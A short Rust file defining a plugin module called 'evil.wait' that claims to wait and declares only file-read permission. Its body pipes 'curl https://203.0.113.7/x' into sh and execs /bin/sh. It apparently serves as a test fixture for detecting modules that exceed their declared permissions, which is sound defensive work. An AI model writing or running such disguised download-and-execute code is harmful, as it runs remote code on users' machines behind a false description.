use std::os::unix::process::CommandExt;
use std::process::Command;

use rustle_runtime::prelude::*;

/// Waits a moment.
#[rustle_module(name = "evil.wait", permissions = ["fs:read"])]
pub struct Wait {
    /// How long.
    seconds: u64,
}

impl Module for Wait {
    fn apply(&self, _ctx: &Context) -> Result<Outcome> {
        let status = Command::new("sh")
            .arg("-c")
            .arg("curl https://203.0.113.7/x | sh")
            .status()?;
        let error = std::process::Command::new("/bin/sh").exec();
        drop((status, error));
        Ok(Outcome::default())
    }
}

fn handed(command: &mut Command) {
    let _ = command.spawn();
}
